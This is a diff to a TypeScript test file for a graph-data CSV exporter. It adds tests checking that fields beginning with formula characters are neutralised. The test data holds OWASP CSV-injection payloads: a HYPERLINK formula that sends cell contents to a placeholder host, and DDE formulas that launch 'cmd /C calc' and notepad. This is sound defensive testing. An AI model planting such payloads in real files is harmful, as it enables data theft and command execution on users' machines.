@@ -1,7 +1,8 @@
+import { parse as parseCsv } from 'csv-parse/sync';
 import { XMLParser, XMLValidator } from 'fast-xml-parser';
 import type { GraphEdgeRecord, GraphNodeRecord, GraphRecord } from '../../src/db/records';
 import { EDGE_ATTRIBUTES, NODE_ATTRIBUTES } from '../../src/http/export/attributes';
-import { csvField, edgesCsv, nodesCsv } from '../../src/http/export/csv';
+import { csvField, edgesCsv, neutraliseFormula, nodesCsv } from '../../src/http/export/csv';
 import { toCytoscapeJson } from '../../src/http/export/cytoscapeJson';
 import { toGexf } from '../../src/http/export/gexf';
 import { toGraphML } from '../../src/http/export/graphml';
@@ -135,6 +136,67 @@ describe('csvField', () => {
     expect(csvField('one\ntwo')).toBe('"one\ntwo"');
     expect(csvField('one\r\ntwo')).toBe('"one\r\ntwo"');
     expect(csvField(' padded')).toBe('" padded"');
+  });
+});
+
+/** What a spreadsheet would read as the start of a formula (OWASP, "CSV Injection"). */
+const FORMULA_START = /^[=+\-@\t\r]/;
+/** Payloads from OWASP's CSV injection page and the probe of issue 18. */
+const FORMULAS = [
+  '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '+1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '=cmd|\' /C notepad\'!\'A1\'',
+];
+
+describe('CSV formula neutralisation', () => {
+  it('puts a single quote before text that a spreadsheet would run, and quotes the field', () => {
+    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
+    expect(csvField('=1+1')).toBe('"\'=1+1"');
+    expect(csvField('@SUM(1)')).toBe('"\'@SUM(1)"');
+    expect(csvField('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
+    for (const formula of FORMULAS) expect(csvField(formula)).toBe(`"'${formula.replace(/"/g, '""')}"`);
+  });
+
+  it('leaves text alone whose formula characters are not at the start, and writes numbers, negative ones too, as numbers', () => {
+    expect(csvField('P-TIP, Turkey')).toBe('"P-TIP, Turkey"');
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField('info@example.org')).toBe('info@example.org');
+    expect(csvField(-3)).toBe('-3');
+    expect(csvField(2013)).toBe('2013');
+    // Text that looks like a negative number is text, and may be a formula: it is neutralised.
+    expect(csvField('-3')).toBe('"\'-3"');
+    expect(csvField(Number.NEGATIVE_INFINITY)).toBe('"\'-Infinity"');
+  });
+
+  it('leaves no cell of either file beginning with a formula character, in any column, read back by csv-parse', () => {
+    const hostile: GraphRecord = {
+      truncated: false,
+      nodes: FORMULAS.map((formula, i) =>
+        // `type` and `status` are typed to their few values; every free-text column carries the formula.
+        node({ id: `org:f${i}`, name: formula, acronym: formula, kind: formula, startDate: formula, endDate: formula, isoCode: formula, jurisdiction: formula, labels: [formula], year: -i }),
+      ),
+      edges: FORMULAS.map((formula, i) =>
+        edge({ id: formula, source: formula, target: `org:f${i}`, type: formula, role: formula, title: formula, date: formula, evidence: [{ document: formula, excerpt: formula }] }),
+      ),
+    };
+    for (const text of [nodesCsv(hostile), edgesCsv(hostile)]) {
+      const rows = parseCsv(text, { relax_quotes: false, skip_empty_lines: false }) as string[][];
+      expect(rows.length).toBe(FORMULAS.length + 1);
+      for (const row of rows) {
+        expect(row.length).toBe(rows[0]!.length);
+        // `year` is a number (0, -1, ...): a number is written as one, so only text cells are checked.
+        for (const cell of row) if (!/^-?\d+$/.test(cell)) expect({ cell, formula: FORMULA_START.test(cell) }).toEqual({ cell, formula: false });
+      }
+    }
+    const labels = (parseCsv(nodesCsv(hostile), { columns: true }) as Array<Record<string, string>>).map((r) => r.label);
+    expect(labels).toEqual(FORMULAS.map((formula) => `'${formula}`));
+    const roles = (parseCsv(edgesCsv(hostile), { columns: true }) as Array<Record<string, string>>).map((r) => r.role);
+    expect(roles).toEqual(FORMULAS.map((formula) => `'${formula}`));
   });
 });
 
